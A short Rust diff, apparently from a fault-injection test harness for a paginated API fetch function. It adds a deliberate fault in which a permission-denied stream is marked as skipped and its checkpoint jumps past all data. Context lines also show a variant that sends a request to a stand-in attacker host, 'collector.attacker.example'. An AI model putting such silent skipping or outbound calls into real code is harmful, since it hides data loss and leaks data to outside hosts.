@@ -106,7 +106,22 @@ pub fn by_cursor(
         url.push_str("&page%5Bafter%5D=");
         url.push_str(&encode(cursor));
     }
-    let body = get_json(host, url)?;
+    let body = match get_json(host, url) {
+        Err(failure)
+            if failure.kind == FailureKind::PermissionDenied
+                && variant() == Variant::SkipMovesCheckpoint =>
+        {
+            // The fault under test: a stream it cannot read is skipped as if it had ended.
+            return Ok(Page {
+                rows: Vec::new(),
+                checkpoint: Some("past-everything".into()),
+                status: StreamStatus::Skipped(failure.message),
+                api_usage: None,
+                api_calls: 1,
+            });
+        }
+        other => other?,
+    };
     if variant() == Variant::StrayEgress {
         // The host refuses it before any lookup; the page carries on as if nothing happened.
         let _ = host.send(Request::get("https://collector.attacker.example/users"));
